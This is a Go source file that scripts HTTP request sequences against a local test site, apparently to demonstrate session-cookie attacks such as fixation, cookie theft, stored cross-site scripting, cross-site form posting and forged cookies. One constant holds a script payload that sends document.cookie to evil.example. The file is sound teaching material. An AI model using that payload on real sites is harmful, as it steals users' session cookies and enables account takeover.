package twin

import (
	"net/url"
	"time"
)

// Script is a story in requests.
type Script struct {
	Name     string // its title is the word twin.{name}
	Planted  string // the value of a cookie that is in your browser before all else
	Requests []Request
}

// Request is one request of a script.
type Request struct {
	By    string        // who sends it: You, Thief or Site
	Says  string        // the key of the word for what happens
	After time.Duration // how much time goes by before it
	// Raw is the request in bytes, but for its holes. {cookie} is the Cookie line that
	// the sender's browser adds, {name} the cookie's name as the server last gave it,
	// {copied} the Cookie line of whoever copied your cookie out of your browser after
	// your last login, {scripted} the Cookie line of a thief to whom a script in your
	// page sent the cookies that it could read, {token} what the page's form has beside its field, {length}
	// the body's length.
	Raw string
}

// Who sends a request.
const (
	You   = "you"   // a browser with a jar
	Thief = "thief" // a program that knows what was stolen
	Site  = "site"  // your browser, made to by a page of another site
)

const (
	get   = "GET / HTTP/1.1\r\nHost: localhost:8000"
	post  = " HTTP/1.1\r\nHost: localhost:8000\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {length}"
	end   = "\r\n\r\n"
	open  = get + "{cookie}" + end
	login = "POST /login" + post + "{cookie}" + end + "username="
	leave = "POST /logout" + post + "{cookie}" + end + "{token}"
)

// thiefsScript is a name that sends the cookie away.
const thiefsScript = "<script>fetch('//evil.example?'+document.cookie)</script>"

var (
	visits    = Request{By: You, Says: "twin.says.opens", Raw: open}
	logsIn    = Request{By: You, Says: "twin.says.logs-in", Raw: login + "kim{token}"}
	looks     = Request{By: You, Says: "twin.says.looks", Raw: open}
	copyComes = Request{By: Thief, Says: "twin.says.copy", Raw: get + "{copied}" + end}
)

// Scripts are all there are.
var Scripts = []Script{
	{"visit", "", []Request{
		visits,
		{By: You, Says: "twin.says.reloads", Raw: open},
	}},
	{"login", "", []Request{visits, logsIn, looks}},
	{"planted", "planted-by-mallory", []Request{
		{By: You, Says: "twin.says.opens-planted", Raw: open},
		logsIn,
		{By: Thief, Says: "twin.says.planted-comes",
			Raw: get + "\r\nCookie: sessionid=planted-by-mallory" + end},
	}},
	{"stolen", "", []Request{visits, logsIn, copyComes}},
	{"script", "", []Request{
		visits,
		{By: You, Says: "twin.says.stores-script", Raw: login + url.QueryEscape(thiefsScript) + "{token}"},
		{By: You, Says: "twin.says.opens-name", Raw: open},
		{By: Thief, Says: "twin.says.scripted-comes",
			Raw: get + "{scripted}" + end},
	}},
	{"cross-site", "", []Request{
		visits, logsIn,
		{By: Site, Says: "twin.says.evil-form",
			Raw: "POST /login" + post + "\r\nOrigin: http://evil.example{cookie}" + end + "username=mallory"},
		{By: You, Says: "twin.says.looks-again", Raw: open},
	}},
	{"logout", "", []Request{
		visits, logsIn, looks,
		{By: You, Says: "twin.says.logs-out", Raw: leave},
		{By: You, Says: "twin.says.opens-again", Raw: open},
		copyComes,
	}},
	{"forged", "", []Request{
		{By: Thief, Says: "twin.says.learns-name", Raw: get + end},
		{By: Thief, Says: "twin.says.made-up", Raw: get + "\r\nCookie: {name}=made-up" + end},
		{By: Thief, Says: "twin.says.other-cookie", Raw: get + "\r\nCookie: my{name}=other" + end},
	}},
	{"later", "", []Request{
		visits, logsIn,
		{By: You, Says: "twin.says.day-later", After: 24 * time.Hour, Raw: open},
		copyComes,
	}},
}

// Find is the script of a name.
func Find(name string) (Script, bool) {
	for _, s := range Scripts {
		if s.Name == name {
			return s, true
		}
	}
	return Script{}, false
}
